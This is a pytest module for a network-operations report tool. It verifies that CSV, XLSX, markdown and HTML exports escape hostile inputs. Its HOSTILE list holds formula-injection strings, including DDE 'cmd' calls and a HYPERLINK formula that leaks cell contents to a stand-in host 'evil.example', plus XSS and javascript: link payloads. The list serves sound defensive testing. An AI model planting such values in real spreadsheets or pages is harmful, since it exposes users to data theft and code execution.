"""Hostile values through every report format (issue 15.4): nothing a spreadsheet or a
markdown viewer renders becomes a live formula or live HTML."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime
from pathlib import Path

import pytest
from openpyxl import load_workbook
from recap_fixtures import state_fixture, store_fixture  # noqa: F401

from netrawat.compliance.report import fence_for
from netrawat.escape import FORMULA_START, markdown_text, spreadsheet_text
from netrawat.recap import RecapStore, start_run
from netrawat.recap.render import TABLE_KEYS, render_csv, render_html, render_markdown, render_xlsx
from netrawat.recap.report import Report, build_report, choose_period
from netrawat.recap.requests import close_request, open_request
from netrawat.recap.values import LOCAL_TZ
from netrawat.state import StateDir

HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"klik")',
    "=cmd|'/c calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "[klik](javascript:alert(1)) ![x](http://evil.example/t.png)",
    "a | b ``` c",
]
"""The bad inputs of this module (the README counts them)."""

MONTH = f"{datetime.now(LOCAL_TZ):%Y-%m}"


@pytest.fixture
def report(state: StateDir, store: RecapStore) -> Report:
    received = datetime.now(UTC).replace(microsecond=0)
    for index, value in enumerate(HOSTILE):
        number = f"{index}/HOSTILE/2026"
        open_request(store, number, opd=f"opd{index}", summary=value, received_at=received)
        with start_run(state, playbook="repair", request=number, opds=[f"opd{index}"]) as run:
            run.host("RTR-X", opd=f"opd{index}", outcome="failed", error=value, actions=[value])
            run.set_summary(value)
        close_request(store, number, result="restored", note=value)
    return build_report(store, choose_period(MONTH, None, None))


@pytest.mark.parametrize("value", HOSTILE)
def test_the_escaping_rules(value: str) -> None:
    assert not spreadsheet_text(value).startswith(FORMULA_START)
    assert "<" not in markdown_text(value)
    assert spreadsheet_text("-") == "-" and spreadsheet_text("10.0.0.1") == "10.0.0.1"


@pytest.mark.parametrize("table", TABLE_KEYS)
def test_csv_cells_never_start_a_formula(report: Report, table: str) -> None:
    rows = list(csv.reader(io.StringIO(render_csv(report, "en", table))))
    assert rows
    for row in rows:
        for cell in row:
            assert cell == "-" or not cell.startswith(FORMULA_START), cell


def test_xlsx_cells_are_strings_never_formulas(report: Report, tmp_path: Path) -> None:
    path = tmp_path / "rekap.xlsx"
    render_xlsx(report, "en", path)
    book = load_workbook(path)
    seen = 0
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    seen += 1
                    assert cell.value == "-" or not cell.value.startswith(FORMULA_START)
    assert seen


def test_markdown_and_html_carry_no_live_html(report: Report) -> None:
    for lang in ("id", "en"):
        text = render_markdown(report, lang)
        assert "<script" not in text and "<img" not in text
        assert "[klik](" not in text and "![x](" not in text
        page = render_html(report, lang)
        assert "<script>alert" not in page and "<img src=x" not in page


def test_a_fence_is_longer_than_any_backtick_run_inside() -> None:
    assert fence_for("plain") == "```"
    assert fence_for('/system note set note="``` <script>"') == "````"
